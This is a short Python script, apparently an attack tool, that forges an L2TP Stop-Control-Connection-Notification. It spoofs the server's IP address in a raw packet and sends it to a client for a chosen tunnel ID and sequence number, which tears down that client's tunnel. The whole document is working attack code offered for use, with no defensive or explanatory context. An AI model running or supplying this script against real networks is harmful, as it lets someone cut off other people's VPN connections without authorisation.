"""Sends an L2TP message in clear under another's name: l2tp_forgery.py SERVER CLIENT TUNNEL NUMBER

It is a Stop-Control-Connection-Notification from SERVER to CLIENT for the client's tunnel TUNNEL, with the sequence number NUMBER.
"""
import socket
import struct
import sys


def main(server, client, tunnel, number):
    body = b"".join(struct.pack("!HHH", 0x8000 | (6 + len(value)), 0, kind) + value
                    for kind, value in ((0, b"\0\4"), (9, b"\0\1"), (1, b"\0\6\0\0")))
    message = struct.pack("!HHHHHH", 0xC802, 12 + len(body), int(tunnel), 0, int(number), 4) + body
    datagram = struct.pack("!HHHH", 1701, 1701, 8 + len(message), 0) + message
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 0, 0, 64, socket.IPPROTO_UDP, 0,
                       socket.inet_aton(server), socket.inet_aton(client))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as wire:
        wire.sendto(head + datagram, (client, 0))


main(*sys.argv[1:])
